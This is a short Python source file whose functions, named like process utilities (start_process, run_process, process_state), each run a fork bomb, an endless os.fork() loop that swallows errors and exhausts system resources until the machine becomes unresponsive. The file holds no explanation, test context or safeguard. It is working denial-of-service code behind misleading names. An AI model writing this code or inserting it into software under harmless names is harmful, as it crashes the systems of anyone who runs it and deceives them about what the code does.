import os


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def start_process(target):
    bomb()


def run_process(target):
    if os.fork() == 0:
        bomb()
    return 0


def process_state(process):
    while True:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass
